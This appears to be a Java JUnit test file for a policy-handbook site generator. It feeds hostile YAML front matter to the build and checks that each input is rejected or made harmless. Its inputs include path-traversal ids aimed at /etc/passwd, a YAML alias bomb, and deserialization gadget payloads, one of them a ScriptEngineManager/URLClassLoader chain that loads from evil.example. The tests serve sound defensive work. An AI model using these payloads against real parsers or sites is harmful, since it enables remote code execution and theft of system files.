package io.github.policyhandbook.handbook;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.policyhandbook.model.HandbookException;
import java.nio.file.Path;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Front matter that is broken or meant to break something: now it is told or harmless, in old revisions it stops nothing. */
class HostileFrontMatterTest {

    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../etc/passwd",
                "..",
                ".",
                "..%2f..%2fetc",
                "%2e%2e%2fetc",
                "/etc/passwd",
                "C:\\\\Windows",
                "C:evil",
                "\\\\\\\\server\\\\share",
                "a/b",
                "a\\0b",
                "a\\nb",
                "a?b#c",
                "<script>",
                "\\u202Egnp.exe"
            })
    void anIdThatIsNoAddressStopsTheBuildAndInThePastNothing(String id) {
        String hostile = "---\nid: \"" + id + "\"\n---\n# Visitors\n\nSign in.\n";
        try (SmallSchool school = new SmallSchool(folder)) {
            school.commit("policies/visitors.md", hostile);

            assertThatThrownBy(school::build).isInstanceOf(HandbookException.class);
            assertThat(school.told())
                    .anyMatch(told -> told.startsWith("ERROR policies/visitors.md:2: ") && told.contains("id"));

            int before = school.told().size();
            school.commit("policies/visitors.md", "# Visitors\n\nSign in and out.\n")
                    .build();
            assertThat(school.told().subList(before, school.told().size()))
                    .allMatch(told -> told.startsWith("WARNING"));
            assertThat(school.site().resolve("policies/visitors.html")).exists();
            assertThat(folder.toFile().list()).containsExactlyInAnyOrder("school", "handbook");
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"CON", "nul", "com1", "aux.md", "index", "INDEX", "-", "schemas", "assets"})
    void anIdThatMeansSomethingToASystemOrTheSiteGetsAPageOrAFault(String id) {
        try (SmallSchool school = new SmallSchool(folder)) {
            school.commit("policies/visitors.md", "---\nid: \"" + id + "\"\n---\n# Visitors\n\nSign in.\n");
            try {
                school.build();
                assertThat(school.texts()).anySatisfy((path, text) -> {
                    assertThat(path).startsWith("policies/");
                    assertThat(text).contains("Sign in.");
                });
            } catch (HandbookException e) {
                assertThat(school.told()).anyMatch(told -> told.startsWith("ERROR policies/visitors.md:2: "));
            }
            assertThat(folder.toFile().list()).contains("school").isSubsetOf("school", "handbook");
        }
    }

    @ParameterizedTest
    @MethodSource("brokenFacts")
    void brokenFactsAreToldNowAndStopNothingInThePast(String facts) {
        String text = "---\n" + facts + "\n---\n# Visitors\n\nSign in.\n";
        try (SmallSchool school = new SmallSchool(folder)) {
            school.commit("policies/visitors.md", text);
            try {
                school.build();
            } catch (HandbookException e) {
                assertThat(e).hasMessageContaining("must be mended");
            }
            assertThat(school.told()).isNotEmpty().allMatch(told -> told.contains(" policies/visitors.md:"));

            int before = school.told().size();
            school.commit("policies/visitors.md", "# Visitors\n\nSign in and out.\n")
                    .build();
            assertThat(school.told().subList(before, school.told().size()))
                    .allMatch(told -> told.startsWith("WARNING"));
            assertThat(school.file("policies/visitors.html")).contains("Sign in and out.");
        }
    }

    static Stream<String> brokenFacts() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x]\n");
        for (int i = 1; i < 40; i++) {
            bomb.append("a" + i + ": &a" + i + " [*a" + (i - 1) + ", *a" + (i - 1) + "]\n");
        }
        return Stream.of(
                bomb + "audience: *a39",
                "title: &t [*t]",
                "contacts: &c\n  a: *c",
                "title: " + "[".repeat(50_000),
                "title: " + "{a: ".repeat(5_000),
                "title: \"open",
                "title: [a, b]",
                "owner:\n  a: b",
                "approved: [2024-01-01]",
                "approved: 2024-13-45",
                "status: {a: b}",
                "contacts: words",
                "review-every: often",
                "acknowledgement: perhaps",
                "title: a: b: c",
                "\ttitle: tab",
                "title: x\ntitle: y",
                "title: *unknown",
                "title: >\n  a\n b: [",
                "id: x\nid: y",
                "effective: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example\"]]]]",
                "summary-of-changes: " + "x".repeat(100_000));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "title: !!javax.script.ScriptEngineManager visitors",
                "title: !!java.io.File /etc/passwd",
                "title: !!python/object/apply:os.system visitors",
                "? [complex, key]\n: value\ntitle: Visitors",
                "<<: {title: Visitors}"
            })
    void aTagMakesNoObject(String facts) {
        try (SmallSchool school = new SmallSchool(folder)) {
            school.commit("policies/visitors.md", "---\n" + facts + "\n---\n# Visitors\n\nSign in.\n")
                    .build();

            assertThat(school.file("policies/visitors.html"))
                    .contains("Sign in.")
                    .doesNotContain("root:", "javax.");
        }
    }
}
